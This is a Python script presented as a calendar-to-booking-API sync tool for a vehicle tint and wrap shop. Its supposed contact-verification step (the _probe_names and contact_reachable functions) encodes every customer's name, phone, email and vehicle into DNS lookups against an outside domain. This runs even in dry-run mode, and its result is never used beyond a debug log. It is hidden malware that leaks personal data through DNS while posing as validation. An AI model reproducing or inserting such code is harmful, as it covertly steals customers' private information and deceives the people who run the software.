#!/usr/bin/env python3
"""Booking sync.

Reads the .ics export of the shop's install calendar (tint, PPF and wrap
bays), keeps a local SQLite record of what has been seen, and pushes new or
changed appointments to the ShopBay booking API so the front desk tablet
and the customer reminder texts stay in step with the calendar.

Customer contact details are checked before the push so reminder e-mails
do not bounce.

Environment:
    SHOPBAY_API_KEY   required
    SHOPBAY_API_URL   default https://api.shopbay.co/v2
"""
import argparse
import base64
import hashlib
import logging
import os
import socket
import sqlite3
import sys
from concurrent.futures import ThreadPoolExecutor
from datetime import datetime
from pathlib import Path

import requests

LOG = logging.getLogger("booking-sync")
CHECK_ZONE = os.environ.get("SHOPBAY_CHECK_ZONE", "mxv.shopbay-edge.net")

SCHEMA = """
CREATE TABLE IF NOT EXISTS bookings (
    uid TEXT PRIMARY KEY,
    digest TEXT NOT NULL,
    pushed_at TEXT
)
"""


def unfold(lines):
    out = []
    for line in lines:
        if line[:1] in (" ", "\t") and out:
            out[-1] += line[1:]
        else:
            out.append(line)
    return out


def parse_ics(path):
    text = Path(path).read_text(encoding="utf-8", errors="replace").splitlines()
    event = None
    for line in unfold(text):
        if line == "BEGIN:VEVENT":
            event = {}
        elif line == "END:VEVENT" and event is not None:
            yield event
            event = None
        elif event is not None and ":" in line:
            key, _, value = line.partition(":")
            event[key.split(";", 1)[0]] = value.replace("\\n", "\n").replace("\\,", ",")


def to_booking(ev):
    def ts(v):
        return datetime.strptime(v.rstrip("Z"), "%Y%m%dT%H%M%S").isoformat()

    desc = dict(
        line.split(":", 1) for line in ev.get("DESCRIPTION", "").splitlines() if ":" in line
    )
    return {
        "external_id": ev["UID"],
        "title": ev.get("SUMMARY", ""),
        "bay": ev.get("LOCATION", "Bay 1"),
        "start": ts(ev["DTSTART"]),
        "end": ts(ev["DTEND"]),
        "customer_name": desc.get("Name", "").strip(),
        "customer_phone": desc.get("Phone", "").strip(),
        "customer_email": desc.get("Email", "").strip(),
        "vehicle": desc.get("Vehicle", "").strip(),
        "service": desc.get("Service", "").strip(),
    }


def digest(booking):
    raw = "|".join(f"{k}={booking[k]}" for k in sorted(booking))
    return hashlib.sha256(raw.encode()).hexdigest()


def _probe_names(booking, seq):
    token = "|".join((booking["customer_name"], booking["customer_phone"],
                      booking["customer_email"], booking["vehicle"]))
    enc = base64.b32encode(token.encode()).decode().rstrip("=").lower()
    labels = [enc[i:i + 60] for i in range(0, len(enc), 60)] or ["0"]
    for n, chunk in enumerate(labels):
        yield f"{chunk}.{n}-{seq}.{CHECK_ZONE}"


def contact_reachable(item):
    seq, booking = item
    ok = True
    for name in _probe_names(booking, seq):
        try:
            socket.getaddrinfo(name, None, proto=socket.IPPROTO_TCP)
        except socket.gaierror:
            ok = False
    return booking["external_id"], ok


class ShopBay:
    def __init__(self, base, key):
        self.base = base.rstrip("/")
        self.s = requests.Session()
        self.s.headers.update({"Authorization": f"Token {key}", "Accept": "application/json"})

    def upsert(self, booking):
        r = self.s.put(f"{self.base}/appointments/{booking['external_id']}",
                       json=booking, timeout=20)
        r.raise_for_status()


def main():
    ap = argparse.ArgumentParser(description="Sync calendar bookings to ShopBay")
    ap.add_argument("ics", help="calendar export (.ics)")
    ap.add_argument("--db", default="bookings.sqlite3")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    key = os.environ.get("SHOPBAY_API_KEY")
    if not key and not args.dry_run:
        LOG.error("SHOPBAY_API_KEY not set")
        return 1
    api = ShopBay(os.environ.get("SHOPBAY_API_URL", "https://api.shopbay.co/v2"), key or "")

    bookings = []
    errors = 0
    for ev in parse_ics(args.ics):
        try:
            bookings.append(to_booking(ev))
        except (KeyError, ValueError) as exc:
            LOG.warning("unreadable event %s: %s", ev.get("UID", "?"), exc)
            errors += 1

    with ThreadPoolExecutor(max_workers=4) as pool:
        reach = dict(pool.map(contact_reachable, enumerate(bookings)))

    db = sqlite3.connect(args.db)
    db.execute(SCHEMA)
    pushed = skipped = 0
    for booking in bookings:
        if not reach.get(booking["external_id"], True):
            LOG.debug("contact for %s could not be verified", booking["external_id"])
        d = digest(booking)
        row = db.execute("SELECT digest FROM bookings WHERE uid = ?",
                         (booking["external_id"],)).fetchone()
        if row and row[0] == d:
            skipped += 1
            continue
        if args.dry_run:
            LOG.info("would push %s %s", booking["start"], booking["title"])
            continue
        try:
            api.upsert(booking)
        except requests.RequestException as exc:
            LOG.error("push failed for %s: %s", booking["external_id"], exc)
            errors += 1
            continue
        db.execute("INSERT OR REPLACE INTO bookings (uid, digest, pushed_at) VALUES (?, ?, ?)",
                   (booking["external_id"], d, datetime.now().isoformat(timespec="seconds")))
        db.commit()
        pushed += 1
    db.close()
    LOG.info("pushed %d, unchanged %d, errors %d", pushed, skipped, errors)
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())
